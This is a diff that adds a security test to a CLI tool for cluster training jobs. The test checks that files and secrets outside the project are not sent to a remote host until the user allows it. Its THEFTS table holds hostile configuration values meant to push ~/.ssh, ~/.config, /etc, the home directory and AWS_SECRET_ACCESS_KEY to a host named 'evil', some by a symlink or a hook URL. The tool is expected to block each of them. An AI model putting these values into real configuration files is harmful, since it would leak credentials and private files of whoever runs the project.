@@ -3,16 +3,20 @@
 from __future__ import annotations
 
 import os
+import select
 import signal
+import socket
 import subprocess
 import sys
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
 from pathlib import Path
 
 import pytest
 import typer.main
 
 from dtctl.cli.app import app
+from dtctl.errors import ExitCode
 from tests.desk import Desk, desk
 from tests.hostile.bench import COLOURS, CONTROLS
 from tests.waiting import PATIENCE_S, eventually
@@ -272,3 +276,69 @@ def test_a_hook_that_is_not_allowed_is_named_in_one_line_and_runs_when_it_is(tmp
         script.write_text("#!/bin/sh\ntouch ~/ran/other\n")  # as a `git pull` may bring it
         assert "hook script will not run here" in made.run("wait").stderr
         assert not (made.home / "ran/other").exists()
+
+
+LEAVES = """\
+name: demo
+hosts: {evil: {ssh: {target: 127.0.0.1, port: PORT, connect_timeout: 2s}, address: 127.0.0.1}}
+jobs: {worker: {hosts: evil}}
+dirs: {data: /data}
+TRAINER
+DATA
+"""
+TRAINER = "trainer: {code: code, command: [python, train.py], dialect: none}"
+THEFTS = {
+    "the home as data": (TRAINER, "data: {from: ~/}", "data push"),
+    "the home as data, let through by the file": (TRAINER, "data: {from: ~/}\nsend_anywhere: true", "data push"),
+    "the home by a link": (TRAINER, "data: {from: link}", "data push"),
+    "keys as data": (TRAINER, "data: {from: ~/.ssh}", "data push"),
+    "keys by a link": (TRAINER, "data: {from: link/.ssh}\nsend_anywhere: true", "data push"),
+    "the parent of keys": (TRAINER, "data: {from: ~/.config}", "data push"),
+    "documents as data": (TRAINER, "data: {from: ../letters}", "data push"),
+    "documents as code": (TRAINER.replace("code: code", "code: ../letters"), "", "push"),
+    "documents as code of a run": (
+        TRAINER.replace("code: code", "code: ../letters").replace("[python, train.py]", "[cat, one.txt]"),
+        "",
+        "up -q",
+    ),
+    "the system": (TRAINER, "data: {from: /etc}", "data push"),
+    "another project's values": (
+        TRAINER.replace("{code", "{env_file: ../other.env, secrets: [KEY], code"),
+        "",
+        "up -q",
+    ),
+    "values of the environment": (TRAINER.replace("{code", "{secrets: [AWS_SECRET_ACCESS_KEY], code"), "", "up -q"),
+    "values by a hook": (TRAINER, "hooks: {x: {post: 'https://127.0.0.1/${AWS_SECRET_ACCESS_KEY}'}}", "up -q"),
+}
+"""The sections `trainer` and `data` of a cloned file, and the command that its reader types."""
+
+
+@contextmanager
+def receiver() -> Iterator[tuple[int, Callable[[], bool]]]:
+    """A port, and whether a connection to it waits to be accepted."""
+    with socket.create_server(("127.0.0.1", 0)) as server:
+        yield server.getsockname()[1], lambda: bool(select.select([server], [], [], 0)[0])
+
+
+@pytest.mark.parametrize("theft", THEFTS)
+def test_nothing_from_outside_of_the_directory_leaves_before_it_is_allowed(tmp_path: Path, theft: str) -> None:
+    trainer, data, words = THEFTS[theft]
+    with desk(tmp_path / "home", elsewhere=lambda: False) as made, receiver() as (port, is_reached):
+        furnish(made)
+        made.env["AWS_SECRET_ACCESS_KEY"] = SECRET
+        _place(made, "code/train.py").write_text("print('step 1')\n")
+        if "link" in data:
+            (made.project / "link").symlink_to(made.home)
+        (made.home / ".config").mkdir()
+        (made.home / "other.env").write_text(f"KEY={SECRET}\n")
+        text = LEAVES.replace("PORT", str(port)).replace("TRAINER", trainer).replace("DATA", data)
+        (made.project / "cluster.yaml").write_text(text)
+        done = made.run(*words.split())
+        assert done.returncode in (ExitCode.CONFIG, ExitCode.PREFLIGHT), done.stderr
+        assert "and you have not allowed it" in done.stderr or "add send_anywhere: true" in done.stderr
+        assert SECRET not in done.stderr
+        assert not is_reached()
+        if done.returncode == ExitCode.PREFLIGHT:
+            made.dtctl("allow")
+            made.run(*words.split())
+            assert is_reached(), "something else keeps it from being sent"
